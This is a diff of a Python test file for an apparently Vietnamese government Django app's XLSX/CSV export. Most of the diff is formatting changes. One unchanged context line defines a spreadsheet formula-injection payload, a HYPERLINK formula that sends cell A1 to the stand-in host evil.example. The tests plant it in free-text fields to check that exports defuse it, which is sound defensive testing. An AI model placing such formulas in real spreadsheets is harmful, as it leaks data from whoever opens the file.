@@ -26,9 +26,11 @@ ATTACK = 'HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
 
 def text_fields(area):
     """Every field of the area a person types freely: CharField and TextField without a fixed list."""
-    return [f for f in (area.model._meta.get_field(n) for n in area.form_fields())
-            if isinstance(f, (models.CharField, models.TextField))
-            and not f.choices and not isinstance(f, CountryField)]
+    return [
+        f
+        for f in (area.model._meta.get_field(n) for n in area.form_fields())
+        if isinstance(f, (models.CharField, models.TextField)) and not f.choices and not isinstance(f, CountryField)
+    ]
 
 
 def column(field):
@@ -58,14 +60,16 @@ def header_index(headers, name):
 @pytest.fixture
 def attacked(units):
     """attacked(slug) -> (row, {field: typed text}): every free-text field of a VP row starts like a formula."""
+
     def make(slug):
         area = AREAS[slug]
         row = make_row(slug, units["vp"])
         typed = {}
         for index, field in enumerate(text_fields(area)):
-            typed[field.name] = (TRIGGERS[index % len(TRIGGERS)] + ATTACK)[:field.max_length]
+            typed[field.name] = (TRIGGERS[index % len(TRIGGERS)] + ATTACK)[: field.max_length]
         area.model.objects.filter(pk=row.pk).update(**typed)
         return row, typed
+
     return make
 
 
@@ -157,9 +161,16 @@ def test_dates_are_excel_dates_and_numbers_are_numbers(client_for, incoming):
 
 
 def test_money_has_the_thousands_format_and_a_year_has_none(client_for, units):
-    ForeignAid.objects.create(unit=units["sngv"], title="Nước sạch", donor="KOICA", country="KR",
-                              value_vnd=Decimal(4_600_000_000), value_original=Decimal("200000.50"), currency="USD",
-                              approved_on=date(2021, 3, 5))
+    ForeignAid.objects.create(
+        unit=units["sngv"],
+        title="Nước sạch",
+        donor="KOICA",
+        country="KR",
+        value_vnd=Decimal(4_600_000_000),
+        value_original=Decimal("200000.50"),
+        currency="USD",
+        approved_on=date(2021, 3, 5),
+    )
     client = client_for("officer")
     sheet = xlsx_sheet(export(client, "vien-tro", "xlsx"))
     headers = [cell.value for cell in sheet[1]]
@@ -181,7 +192,9 @@ def test_the_unit_has_its_name_and_its_code_in_two_columns(client_for, incoming)
     at = headers.index("Đơn vị")
     assert headers[at + 1] == "Ký hiệu đơn vị"
     assert [sheet.cell(row=2, column=at + 1).value, sheet.cell(row=2, column=at + 2).value] == [
-        "Văn phòng UBND tỉnh", "VP"]
+        "Văn phòng UBND tỉnh",
+        "VP",
+    ]
     rows = csv_rows(export(client, "doan-vao", "csv"))
     assert rows[1][rows[0].index("Đơn vị")] == "Văn phòng UBND tỉnh"
     assert rows[1][rows[0].index("Ký hiệu đơn vị")] == "VP"
